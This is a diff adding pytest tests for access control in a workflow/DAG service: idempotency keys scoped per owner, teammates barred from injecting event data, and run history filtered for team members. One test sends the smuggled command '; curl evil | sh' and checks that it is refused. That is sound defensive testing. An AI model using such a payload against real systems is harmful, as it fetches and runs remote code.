@@ -4,7 +4,11 @@ gives work to a team, and the tasks they submit to core are owned by the team.""
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
+
+import httpx
 
 from tests.fixtures.cron import start_cron
 from tests.fixtures.dag import start_dag
@@ -18,6 +22,18 @@ def _team(core: Core, name: str, *members: str) -> None:
         assert root.post("/v1/teams", json={"name": name}).status_code == 201
         for member in members:
             assert root.put(f"/v1/teams/{name}/members/{member}").status_code == 200
+
+
+@contextmanager
+def _sre_dag(core: Core, tmp_path: Path) -> Iterator[tuple[httpx.Client, httpx.Client]]:
+    """Team sre of alice and bob, a DAG service, and their clients of it."""
+    _team(core, "sre", "alice", "bob")
+    dag = start_dag(core, tmp_path / "dag")
+    try:
+        with dag.client("alice") as alice, dag.client("bob") as bob:
+            yield alice, bob
+    finally:
+        dag.stop()
 
 
 def _schedule(**overrides) -> dict:
@@ -217,3 +233,103 @@ def test_a_team_workflows_runs_and_tasks_are_the_teams(core: Core, tmp_path: Pat
             assert cancelled.status_code == 200, cancelled.text
     finally:
         dag.stop()
+
+
+def test_a_teammates_idempotency_key_neither_finds_nor_takes_the_owners_runs(
+    core: Core, tmp_path: Path, db
+) -> None:
+    """Run keys are unique per owner: a teammate starting a run of alice's team workflow
+    with a key alice used for her private workflow got that private run back (its
+    params, its workflow); and a key the teammate used first (cron's, which are
+    predictable: ``cron:SCHEDULE:SLOT``) answered alice's own later run with the
+    teammate's run of another workflow, so hers never ran."""
+    with _sre_dag(core, tmp_path) as (alice, bob):
+        node = {"name": "extract", "task": {"artifact": ARTIFACT}}
+        shared = {"name": "etl", "team": "sre", "nodes": [node]}
+        private = {"name": "payroll", "params": {"account": "x"}, "nodes": [node]}
+        assert alice.post("/v1/workflows", json=shared).status_code == 201
+        assert alice.post("/v1/workflows", json=private).status_code == 201
+        mine = alice.post(
+            "/v1/workflows/payroll/runs",
+            json={"idempotency_key": "nightly", "params": {"account": "CH93-0000"}},
+        )
+        assert mine.status_code == 201, mine.text
+        # bob's key is his own: alice's private run is not what it finds.
+        theirs = {"owner": "alice"}
+        run = bob.post("/v1/workflows/etl/runs", params=theirs, json={"idempotency_key": "nightly"})
+        assert run.status_code == 201, run.text
+        assert run.json()["workflow"] == "etl" and run.json()["id"] != mine.json()["id"]
+        assert "CH93-0000" not in run.text
+        again = bob.post(
+            "/v1/workflows/etl/runs", params=theirs, json={"idempotency_key": "nightly"}
+        )
+        assert (again.status_code, again.json()["id"]) == (200, run.json()["id"])
+        # A key bob takes first is not alice's: her run of it is her own, of her workflow.
+        taken = bob.post(
+            "/v1/workflows/etl/runs",
+            params={"owner": "alice"},
+            json={"idempotency_key": "cron:7:2026-12-07T00:00:00+00:00"},
+        )
+        assert taken.status_code == 201, taken.text
+        hers = alice.post(
+            "/v1/workflows/payroll/runs",
+            json={"idempotency_key": "cron:7:2026-12-07T00:00:00+00:00"},
+        )
+        assert hers.status_code == 201, hers.text
+        assert hers.json()["workflow"] == "payroll"
+        # A key names one run: of another workflow, it is a 409, not that run.
+        other = alice.post("/v1/workflows/etl/runs", json={"idempotency_key": "nightly"})
+        assert other.status_code == 409, other.text
+        assert other.json()["errors"][0]["field"] == "body.idempotency_key"
+        assert "CH93-0000" not in other.text
+    runs = db.execute("SELECT workflow, count(*) FROM dag.runs GROUP BY 1 ORDER BY 1").fetchall()
+    assert runs == [("etl", 2), ("payroll", 2)]
+
+
+def test_a_teammate_signals_a_team_run_but_chooses_no_data_its_tasks_read(
+    core: Core, tmp_path: Path, db
+) -> None:
+    """An event's data become the waiting node's outputs, which the nodes after it read
+    into their tasks' arguments, run as the workflow's owner: a teammate's data were a
+    teammate's arguments run as the owner, which a run's params may not be either."""
+    with _sre_dag(core, tmp_path) as (alice, bob):
+        wait = {"name": "wait", "event": {"name": "go", "timeout_s": 3600}}
+        wait["outputs"] = {"ref": {"required": False}}
+        after = {"name": "deploy", "depends_on": ["wait"]}
+        after["task"] = {"artifact": ARTIFACT, "args": ["{{ nodes.wait.outputs.ref }}"]}
+        body = {"name": "release", "team": "sre", "nodes": [wait, after]}
+        assert alice.post("/v1/workflows", json=body).status_code == 201
+        run = bob.post("/v1/workflows/release/runs", params={"owner": "alice"}, json={})
+        assert run.status_code == 201, run.text
+        path = f"/v1/runs/{run.json()['id']}/events/go"
+        refused = bob.post(path, json={"data": {"ref": "; curl evil | sh"}})
+        assert refused.status_code == 403, refused.text
+        assert refused.json()["errors"][0]["field"] == "body.data"
+        assert db.execute("SELECT count(*) FROM dag.run_events").fetchone() == (0,)
+        # A signal without data is a teammate's to send; the owner's data are hers.
+        assert bob.post(path, json={}).status_code == 201
+        assert alice.post(f"{path}-not-waited", json={}).status_code == 404
+    kept = db.execute("SELECT name, data, sent_by FROM dag.run_events").fetchall()
+    assert kept == [("go", {}, "bob")]
+
+
+def test_a_shared_workflows_history_shows_a_member_only_the_teams_runs(
+    core: Core, tmp_path: Path, db
+) -> None:
+    """A workflow's history listed every run of its name: a member of the team it is
+    shared with now saw the runs from before it was (their ids, states, node names and
+    timings), which the member may not read one by one."""
+    with _sre_dag(core, tmp_path) as (alice, bob):
+        node = {"name": "extract", "task": {"artifact": ARTIFACT}}
+        assert alice.post("/v1/workflows", json={"name": "etl", "nodes": [node]}).is_success
+        private = alice.post("/v1/workflows/etl/runs", json={}).json()["id"]
+        shared = {"name": "etl", "team": "sre", "nodes": [node]}
+        assert alice.post("/v1/workflows", json=shared).status_code == 201
+        team_run = alice.post("/v1/workflows/etl/runs", json={}).json()["id"]
+        assert bob.get(f"/v1/runs/{private}").status_code == 404
+        seen = bob.get("/v1/workflows/etl/history", params={"owner": "alice"})
+        assert seen.status_code == 200, seen.text
+        assert [r["id"] for r in seen.json()["runs"]] == [team_run]
+        own = alice.get("/v1/workflows/etl/history").json()
+        assert [r["id"] for r in own["runs"]] == [private, team_run]
+    assert db.execute("SELECT count(*) FROM dag.runs").fetchone() == (2,)
